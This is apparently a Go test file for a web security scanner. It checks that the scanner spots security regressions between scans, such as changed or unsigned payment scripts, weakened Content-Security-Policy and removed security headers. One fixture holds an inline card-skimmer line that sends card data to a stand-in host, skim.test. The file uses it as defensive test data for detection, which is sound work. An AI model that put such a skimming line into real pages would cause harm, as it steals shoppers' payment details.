package history

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/padlock-scan/padlock/report"
)

func kinds(cs []Change) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Kind+" "+c.Subject)
	}
	return out
}

func TestCompareSeesAdditionsChangesAndRemovals(t *testing.T) {
	t.Parallel()
	base := shop(t0)
	if cs := Compare(base, shop(t0.Add(time.Hour))); len(cs) != 0 {
		t.Fatalf("the same site compares with changes: %v", kinds(cs))
	}
	cur := shop(t0.Add(time.Hour))
	pay := &cur.Pages[1]
	// the payment provider's script changed and lost its SRI; a skimmer appeared inline; the
	// first-party inline script is gone; CSP now allows inline scripts; HSTS shorter; XFO gone
	cur.Scripts[0].SHA256, cur.Scripts[0].Integrity, cur.Scripts[0].IntegrityValid = hash("cc"), "", nil
	cur.Scripts[1] = report.Script{Kind: "inline", SHA256: hash("ee"), Party: "first", PaymentPages: []string{pay.URL}, Pages: []string{pay.URL},
		Line: 7, Snippet: "fetch('https://skim.test/?'+card)"}
	pay.CSP = []string{"script-src 'self' https://js.pay.test 'unsafe-inline'; object-src 'none'"}
	pay.SecurityHeaders["Content-Security-Policy"] = pay.CSP[0]
	pay.SecurityHeaders["Strict-Transport-Security"] = "max-age=60"
	delete(pay.SecurityHeaders, "X-Frame-Options")
	got := kinds(Compare(base, cur))
	want := []string{
		"script-added inline sha256:" + hash("ee"),
		"script-changed https://js.pay.test/v3.js",
		"sri-removed https://js.pay.test/v3.js",
		"script-removed inline sha256:" + hash("bb"),
		"csp-weakened Content-Security-Policy",
		"header-removed X-Frame-Options",
		"header-weakened Strict-Transport-Security",
	}
	if !slices.Equal(got, want) {
		t.Errorf("changes:\n got %q\nwant %q", got, want)
	}
	cs := Compare(base, cur)
	for _, c := range cs {
		if c.Kind == ScriptAdded && c.Detail != `inline script, line 7 of `+pay.URL+`: "fetch('https://skim.test/?'+card)"` {
			t.Errorf("added inline script detail %q", c.Detail)
		}
		if c.Kind == CSPWeakened && c.Detail != "script-src now allows 'unsafe-inline'" {
			t.Errorf("csp detail %q", c.Detail)
		}
		if c.Kind == HeaderWeakened && !strings.Contains(c.Detail, "includeSubDomains removed") {
			t.Errorf("hsts detail %q", c.Detail)
		}
		if len(c.Pages) != 1 || c.Pages[0] != pay.URL {
			t.Errorf("%s: pages %v", c.Kind, c.Pages)
		}
	}
	// CSP gone altogether: one change, not a header change besides
	cur2 := shop(t0.Add(time.Hour))
	cur2.Pages[1].CSP = nil
	delete(cur2.Pages[1].SecurityHeaders, "Content-Security-Policy")
	if got := kinds(Compare(base, cur2)); !slices.Equal(got, []string{"csp-removed Content-Security-Policy"}) {
		t.Errorf("CSP removed: %q", got)
	}
}

func TestCSPWeaker(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ old, cur, want string }{
		{"script-src 'self'", "script-src 'self'", ""},
		{"script-src 'self' https://a.test", "script-src 'self'", ""},
		{"script-src 'self'", "script-src 'self' https://evil.test", "script-src now allows https://evil.test"},
		{"default-src 'self'; object-src 'none'", "default-src 'self'", "object-src removed"},
		{"script-src 'self'; upgrade-insecure-requests", "script-src 'self'", "upgrade-insecure-requests removed"},
		{"script-src 'self', frame-ancestors 'none'", "script-src 'self'", "1 policies, was 2"},
		{"script-src 'SELF'", "script-src 'self'", ""},
	} {
		if got := CSPWeaker(c.old, c.cur); got != c.want {
			t.Errorf("CSPWeaker(%q, %q) = %q, want %q", c.old, c.cur, got, c.want)
		}
	}
}

func TestDegraded(t *testing.T) {
	t.Parallel()
	base := shop(t0)
	if why := Degraded(base, shop(t0)); len(why) != 0 {
		t.Fatalf("a healthy run is degraded: %v", why)
	}
	if why := Degraded(nil, shop(t0)); len(why) != 0 {
		t.Fatalf("a healthy first run is degraded: %v", why)
	}
	for name, mutate := range map[string]func(r *report.Report){
		"payment page 500": func(r *report.Report) { r.Pages[1].Status = 500 },
		"payment page failed": func(r *report.Report) {
			r.Pages[1].Error, r.Pages[1].Status = "timeout", 0
		},
		"redirected to a login page": func(r *report.Report) {
			p := &r.Pages[1]
			p.Status, p.FinalURL, p.Payment = 200, "https://shop.test/login", false
		},
		"challenge page in place": func(r *report.Report) { r.Pages[1].Payment = false },
		"script not read":         func(r *report.Report) { r.Scripts[0].SHA256, r.Scripts[0].Status = "", 0 },
		"script 404":              func(r *report.Report) { r.Scripts[0].Status = 404 },
		"page gone":               func(r *report.Report) { r.Pages = r.Pages[:1] },
		"start URL 503":           func(r *report.Report) { r.Pages[0].Status = 503 },
	} {
		cur := shop(t0)
		mutate(cur)
		if why := Degraded(base, cur); len(why) == 0 {
			t.Errorf("%s: not degraded", name)
		}
	}
}

func TestChangesGroupPages(t *testing.T) {
	t.Parallel()
	var cs changeSet
	for i := 0; i < 25; i++ {
		cs.add(Change{Kind: CSPRemoved, Subject: "Content-Security-Policy", Old: "x"}, "https://shop.test/p"+string(rune('a'+i)))
	}
	l := cs.list()
	if len(l) != 1 || len(l[0].Pages) != maxPages || l[0].PageCount != 25 {
		t.Fatalf("one CSP change on 25 pages: %+v", l)
	}
}
